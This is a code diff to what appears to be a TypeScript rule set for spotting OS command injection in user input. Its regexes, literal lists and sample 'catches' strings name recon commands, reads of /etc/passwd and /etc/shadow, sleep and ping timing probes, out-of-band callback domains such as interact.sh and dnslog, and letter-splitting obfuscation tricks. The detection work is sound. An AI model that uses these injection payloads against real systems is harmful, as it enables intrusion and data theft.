@@ -1,4 +1,5 @@
 import { BIN_PATH, CHAIN, COMMAND_END, COMMANDS, RECON, splitWord } from './shell-words.js';
+import { pairs } from './pairs.js';
 import type { Rule } from './rule.js';
 
 const roles = ['user'] as const;
@@ -10,6 +11,12 @@ const GAP = String.raw`(?:[ +]|%20|%09|\x24\{?ifs\}?){0,4}`;
 const VALUE = String.raw`(?:[+\x24*]{1,2}|[^ \n;|&]{0,40}(?:['")\]}\x60]{1,4}|%2[279])|[a-z_]{1,20}=(?:\d{1,3}(?:\.\d{1,3}){3})?|[0-9][0-9a-z.:/]{0,40}|-\d{1,6}|[a-z]|(?:test|foo|bar|dummy|localhost|aaaa?|xxx|null)[*.\d]?|[a-z0-9-]{1,30}(?:\.[a-z0-9-]{1,30}){0,3}\.(?:com|org|net|io|txt|jpe?g|png|gif|php|html?|pdf|zip)|/[a-z0-9_./-]{1,60})`;
 const NO_TABLE = String.raw`(?!\|[^|\n]{1,60}\|[^|\n]{1,60}\||[a-z]&[a-z])`;
 const CLOSED = String.raw`(?= {0,3}(?:[;|&\x60'"#)}<]{1,4}|%0a|\\n|$))`;
+
+/** Commands that are written with their letters parted. */
+const SPLIT =
+  'whoami cat ping curl wget uname sleep bash echo nslookup ifconfig python perl netcat powershell systeminfo calc'.split(
+    ' ',
+  );
 
 export const COMMAND: readonly Rule[] = [
   {
@@ -36,15 +43,11 @@ export const COMMAND: readonly Rule[] = [
     kind: 'artifact',
     severity: 'critical',
     literals: [
-      'whoami',
-      'id',
-      'uname',
-      'ifconfig',
-      'ipconfig',
-      'netstat',
-      'systeminfo',
-      '/passwd',
-      '/shadow',
+      ...'whoami uname ifconfig ipconfig netstat systeminfo /passwd /shadow'.split(' '),
+      ...pairs(
+        [';', '|', '&', '%0a', '\\n', '%3b', '%7c', '`', '$('],
+        ['id', ' id', '/usr/bin/id', '/bin/id'],
+      ),
     ],
     pattern: String.raw`(?:[;|]|(?:^|[^a-z])&|%0a|\\n|%3b|%7c|[."';|&](?:\x60|\x24\()){1,3} {0,3}(?:(?:${BIN_PATH})?(?:whoami|uname(?: -[a-z]{1,3})?|ifconfig|ipconfig(?: /all)?|systeminfo|netstat -[a-z]{1,4})${CLOSED}|(?:${BIN_PATH})?id(?= {0,3}(?:[;|&\x60'"#)}<]|\\n|%0a){0,4} {0,3}$)|(?:cat|head|tail|less|more|type|nl|tac)[ <]{1,3}/?etc/(?:passwd|shadow))`,
     roles,
@@ -61,7 +64,28 @@ export const COMMAND: readonly Rule[] = [
     category: 'command',
     kind: 'artifact',
     severity: 'critical',
-    literals: ['sleep', 'ping', 'nslookup', 'curl', 'wget', 'timeout', '$(('],
+    literals: [
+      'sleep ',
+      'ping -',
+      'nslookup',
+      'timeout /t',
+      'timeout 1',
+      'timeout 5',
+      '$((',
+      'oast',
+      'burpcollab',
+      'interact.sh',
+      'dnslog',
+      'ceye',
+      'requestbin',
+      'ngrok',
+      'curl `',
+      'curl $',
+      'wget `',
+      'wget $',
+      'dig `',
+      'dig $',
+    ],
     pattern: String.raw`\] ?(?:\|\||&&) ?sleep \d|echo(?: |%20|\+|\x24ifs)?[a-z]{0,12}\x24\(\(\d{1,6}(?:%2b|[-+* ]){1,3}\d{1,6}\)\)\x24\(|(?:['")\]][;|&\x60]{1,3}|[;|&]{1,2}\x60|[;|&]{1,2}\x24\(|\|\||(?:^|[^&])&) {0,3}(?:sleep|timeout(?: /t)?) {1,2}\d{1,3}${CLOSED}|(?:[;|&\x60]|\x24\() {0,3}(?:ping {1,2}(?:-[a-z] {0,2}\d{1,3} {0,2}){1,2}(?:127\.|localhost|::1|\x24)|(?:nslookup|curl|wget|dig) {1,2}[^\n ;|&]{0,60}(?:\x24\(|\x60|\.(?:oast|oastify|burpcollaborator|interact|dnslog|ceye|requestbin|ngrok)))`,
     roles,
     catches: ['x & sleep 10 &', 'a b; ping -c 10 127.0.0.1;', "a b'; nslookup `whoami`.a.example"],
@@ -83,8 +107,26 @@ export const COMMAND: readonly Rule[] = [
     category: 'command',
     kind: 'artifact',
     severity: 'critical',
-    literals: ["''", '""', '\\', '$@', '$*', '``', '^', "w'h", "c'a", "'wh'", "'who'", "'c'", "'ca'"],
-    pattern: String.raw`(?:^|[;|&\x60(= ])(?:${['whoami', 'cat', 'ping', 'curl', 'wget', 'uname', 'sleep', 'bash', 'echo', 'nslookup', 'ifconfig', 'python', 'perl', 'netcat', 'powershell', 'systeminfo', 'calc'].map(splitWord).join('|')})(?![a-z])`,
+    literals: [
+      "''",
+      '""',
+      '$@',
+      '$*',
+      '$()',
+      '^',
+      "w'h",
+      "c'a",
+      "'wh'",
+      "'who'",
+      "'c'",
+      "'ca'",
+      'w"h',
+      'c"a',
+      ...SPLIT.flatMap((word) =>
+        [1, 2, 3].filter((at) => at < word.length).map((at) => `${word.slice(0, at)}\\${word.charAt(at)}`),
+      ),
+    ],
+    pattern: String.raw`(?:^|[;|&\x60(= ])(?:${SPLIT.map(splitWord).join('|')})(?![a-z])`,
     roles,
     catches: ["w'h'o'am'i", 'c\\at x', 'w^h^o^a^mi', "c''at /tmp/x", 'who$@ami'],
     passes: ["It's Anna's and Ben's turn", "printf '' > file", 'C:\\cats', "rock 'n' roll"],
